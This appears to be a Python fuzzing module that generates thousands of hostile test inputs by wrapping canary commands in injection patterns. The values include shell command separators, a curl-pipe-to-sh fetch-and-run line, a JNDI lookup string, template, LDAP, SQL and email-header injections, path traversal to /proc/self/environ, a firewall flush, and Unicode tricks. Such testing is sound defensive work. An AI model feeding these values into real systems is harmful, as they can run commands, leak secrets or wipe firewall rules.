"""Five thousand and more values that attack whoever puts them into a program, a query, or a header."""

# ruff: noqa: RUF001 - letters that look like others are what this is about

import random
from collections.abc import Iterator
from itertools import product

CANARY = "/tmp/luytre-canary"
COMMANDS = [
    f"touch {CANARY}", f"/usr/bin/touch {CANARY}", f"python3 -c 'open(\"{CANARY}\",\"w\")'", f"curl http://127.0.0.1:1/|sh>{CANARY}",
    f"id>{CANARY}", f"nft flush ruleset;touch {CANARY}", f"wget -O{CANARY} http://127.0.0.1/", f"tee {CANARY}",
]  # fmt: skip
WRAPS = [
    "; {c}", "| {c}", "|| {c}", "& {c}", "&& {c}", "$({c})", "`{c}`", "\n{c}\n", "\r\n{c}", "'; {c} #", '"; {c} #', "<({c})", ">({c})",
    "${{IFS}}{c}", "%0a{c}", "\x00{c}", "$'{c}'", "{{{{{c}}}}}", "{{% {c} %}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "${{jndi:ldap://127.0.0.1/{c}}}",
    "--help;{c}", "-oProxyCommand={c}", "--output={c}", "-e{c}", "@{c}", "!{c}", "=cmd|'{c}'!A1", "eval({c})", "__import__('os').system('{c}')",
    "1.2.3.4; {c}", "1.2.3.4 }} }}; flush ruleset; add element {c}", "host{c}", "a@b.test\nBcc: x@evil.test\n{c}", "x\r\n.\r\nMAIL FROM:<{c}>",
    "*)(uid=*))(|(uid=*{c}", "admin)(&)", "cn={c},dc=x", "\\2a\\29{c}", "' OR 1=1 --{c}", '"}}, {{"flush": {{"ruleset": null}}}}, {{"x": "{c}',
    "../../../..{c}", "..\\..\\{c}", "/proc/self/environ{c}", "file://{c}", "http://127.0.0.1/{c}", "__x__:value{c}", "\u202e{c}", "\ud800{c}",
    "{c}\u2028", "\x1b]0;{c}\x07", "A" * 30_000 + "{c}", "\uff1b{c}", "\u037e{c}", "\u00a0{c}", "\x85{c}",
]  # fmt: skip
PLAIN = [
    "", " ", "-", "--", "-rf", "--version", "0", "::", "0.0.0.0", "0.0.0.0/0", "::/0", "127.0.0.1", "localhost", "*", "%", "null", "None",
    "true", "NaN", "1e999", "\x00", "\n", "\t", "..", ".", "/", "\\", "con", "aux", "root", "Administrator", "krbtgt", "ＡＤＭＩＮ", "ﬀ", "I\u0307",
]  # fmt: skip


def values(count: int, seed: int) -> Iterator[str]:
    """Yield ``count`` values: every combination first, then random mutations of them."""
    fixed = [*PLAIN, *(wrap.format(c=command) for wrap, command in product(WRAPS, COMMANDS))]
    drawn = random.Random(seed)
    drawn.shuffle(fixed)
    for n in range(count):
        if n < len(fixed):
            yield fixed[n]
            continue
        base = drawn.choice(fixed)[:2000]
        at = drawn.randrange(len(base) + 1)
        yield (
            base[:at]
            + drawn.choice([*PLAIN, *";|&$`'\"\\\n\r\x00(){}<>", drawn.choice(COMMANDS)])
            + base[at:]
        )
